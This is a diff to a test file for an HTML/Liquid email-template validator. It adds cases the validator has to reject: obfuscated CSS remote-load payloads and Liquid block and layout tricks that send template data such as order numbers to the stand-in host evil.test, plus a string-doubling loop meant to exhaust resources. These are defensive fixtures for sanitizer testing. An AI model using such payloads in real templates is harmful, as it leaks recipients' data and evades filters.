@@ -174,6 +174,10 @@ t.test('what a template does not have is refused, with its line and column', asy
       '{% assign a = "xxxxxxxxxx" %}{% for i in (1..40) %}{% assign a = a | append: a %}{% endfor %}{{ a }}',
       /limit exceeded/,
     ],
+    [
+      '{% assign x = "aaaaaaaa" %}{% for i in (1..24) %}{% capture x %}{{ x }}{{ x }}{% endcapture %}{% endfor %}{% if x contains "b" %}{% endif %}',
+      /limit exceeded/,
+    ],
   ] as const) {
     t.match(problemsOf({ ...OWN, text: source }), [said], source.slice(0, 40))
   }
@@ -209,6 +213,11 @@ t.test('what runs, loads or leads where data says is refused in HTML', async (t)
     '<svg onload="x"></svg>',
     '<meta http-equiv="refresh" content="0">',
     '<p style="background:url(https://evil.test)">x</p>',
+    '<p style="background:url&#40;https://evil.test)">x</p>',
+    '<p style=\'background:image-set("https://evil.test/x" 1x)\'>x</p>',
+    '<p style="background:-webkit-image-set(x)">x</p>',
+    '<p style="background:src(x)">x</p>',
+    '<style>a[href*="x"]{background:image("https://evil.test/x")}</style>',
     '<p style="{{ name }}">x</p>',
     '<style>@import "x";</style>',
     '<img src="data:image/png;base64,x">',
@@ -217,7 +226,7 @@ t.test('what runs, loads or leads where data says is refused in HTML', async (t)
   ]) {
     t.ok(problemsOf({ ...OWN, html }).length > 0, html)
   }
-  const fine = `<!doctype html><h1 style="color:{{ shop.accent }}">Hi {{ name }}</h1>{% if name %}<p title="{{ name }}">&lt;</p>{% endif %}
+  const fine = `<!doctype html><style>@media (max-width: 30em) { p:not(.a) { color: rgb(0 0 0 / 50%); width: calc(100% - 2px) } }</style><h1 style="color:{{ shop.accent }}">Hi {{ name }}</h1>{% if name %}<p title="{{ name }}">&lt;</p>{% endif %}
     <a href="{{ shop.url }}/orders?number={{ order.number | url_encode }}">x</a><img src="https://cdn.example.test/logo.png" alt="{{ shop.name }}">
     <a href="mailto:{{ shop.email }}">y</a>{% for line in order.lines %}{{ line.title }}{% endfor %}{{ order.lines.size }}{{ order.lines[0].title }}`
   t.same(problemsOf({ ...OWN, html: fine }), [])
@@ -244,6 +253,9 @@ t.test('no picture and no link tells another server who reads the mail', async (
     `{% for line in ${lines} %}<a href="https://evil.test/?${line}">x</a>{% endfor %}`,
     '{% assign amount = name %}<a href="https://evil.test/?{{ amount | url_encode }}">x</a>',
     '{% capture order %}{{ name }}{% endcapture %}<a href="https://evil.test/?{{ order.number | url_encode }}">x</a>',
+    '{% if name %}{% block x %}{% endblock %}{% endif %}<p>x</p>',
+    '{% block x %}{% endblock %}{% block content %}{% block "x" %}<img src="https://evil.test/A">{% endblock %}{% endblock %}',
+    '{% layout layout.html.liquid, locale: name %}{% block content %}<a href="https://evil.test/?{{ locale | url_encode }}">x</a>{% endblock %}',
     `{%- for shop in ${lines} -%}<img src="{{ shop.url }}/x">{% endfor %}`,
   ]) {
     t.ok(problemsOf({ ...OWN, html }).length > 0, html)
